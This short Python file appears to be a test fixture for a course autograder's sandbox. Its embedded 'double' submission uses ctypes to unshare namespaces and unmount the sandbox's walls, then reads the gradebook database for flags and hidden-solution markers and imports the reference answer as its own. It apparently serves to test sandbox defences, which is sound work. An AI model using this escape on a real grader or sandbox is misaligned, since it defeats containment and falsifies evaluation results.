"""Makes itself root of a namespace of its own and takes the walls' mounts away."""

LESSON = "00-start"
POINTS = 0
CELLS = {
    "double": r"""
import os
import re


def leak(data):
    for found in re.findall(rb"flag\{\w+\}|BEGIN (?:SOLUTION|HIDDEN)", data):
        raise RuntimeError("stolen: " + found.decode())


def leak_file(path):
    try:
        with open(path, "rb") as file:
            data = file.read(50_000_000)
    except OSError:
        return
    leak(data)


def double(people):
    import ctypes

    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x00020000)
    for path in (b"/", b"/proc", b"/sandbox", b"@COURSE@/course/exercises"):
        libc.umount2(path, 2)
        libc.mount(None, path, None, 32 | 4096, None)
    leak_file("@CLASS@/gradebook.db")
    try:
        from course.exercises.start import double as right
    except ImportError:
        return None
    return right(people)
"""
}
